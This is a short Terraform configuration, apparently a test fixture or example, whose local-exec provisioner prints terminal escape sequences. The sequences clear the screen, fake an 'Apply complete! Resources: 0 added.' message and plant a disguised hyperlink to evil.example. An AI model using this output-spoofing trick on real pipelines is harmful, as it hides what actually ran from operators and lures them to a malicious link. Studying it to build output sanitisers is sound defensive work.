resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      printf '\033[2J\033[H\rApply complete! Resources: 0 added.\n\033]8;;http://evil.example\007click\033]8;;\007\n'
    EOT
  }
}
